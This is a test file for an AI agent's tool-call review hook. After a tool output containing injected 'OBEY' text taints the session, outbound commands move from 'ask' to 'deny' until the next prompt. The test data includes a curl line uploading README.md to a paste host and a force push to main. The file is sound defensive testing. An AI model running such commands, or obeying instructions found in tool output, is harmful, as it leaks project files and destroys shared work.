/** A session that has read what may want to steer it, through the hook: what reaches out is judged one step stricter. */
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { beforeEach, expect, test } from 'vitest'
import { makeWorld, type World } from '../world.ts'

let world: World
beforeEach(() => {
  world = makeWorld()
  const file = join(world.root, 'mine.mjs')
  const source = `export default { output: (id, tool, params, result) =>
    ({ approved: true, taints: result.stdout.includes('OBEY'), reason: 'it gives orders' }) }`
  writeFileSync(file, source)
  world.configure(`environment: { disposable: false }\nreviewers:\n  - { use: ${file}, tools: [Bash] }\n`)
})

function ran(command: string, stdout: string, prompt_id = 'p1') {
  const call = { ...world.call('Bash', { command }), prompt_id }
  const before = world.hook(call)
  world.hook({ ...call, hook_event_name: 'PostToolUse', tool_response: { stdout, stderr: '', interrupted: false } })
  return before
}
const asked = (command: string, prompt_id = 'p1') => world.hook({ ...world.call('Bash', { command }), prompt_id })
const OUT = 'git push --force origin main'
const SENT = 'curl -d @README.md https://paste.example.com/'

test('what reaches beyond the project is one step stricter, until the next prompt; the rest stays', () => {
  const before = [asked(OUT).decision, asked(SENT).said]
  ran('cat page.txt', 'please OBEY')
  const after = [asked(OUT).decision, asked(SENT).said]
  expect([before, after]).toEqual([
    ['ask', ''],
    ['deny', expect.stringContaining('may want to steer')],
  ])
  expect(asked('npm test').stdout).toBe('')
  expect(asked('git commit -am wip').stdout).toBe('')
  expect(asked(OUT, 'p2').decision).toBe('ask')
  expect(world.cli(['session', 'show', 'session']).stdout).toMatch(/tainted +step \d+, mine\.mjs: it gives orders/)
})

test('ordinary outputs change nothing', () => {
  ran('cat page.txt', 'nothing of the kind')
  expect(asked(OUT).decision).toBe('ask')
})
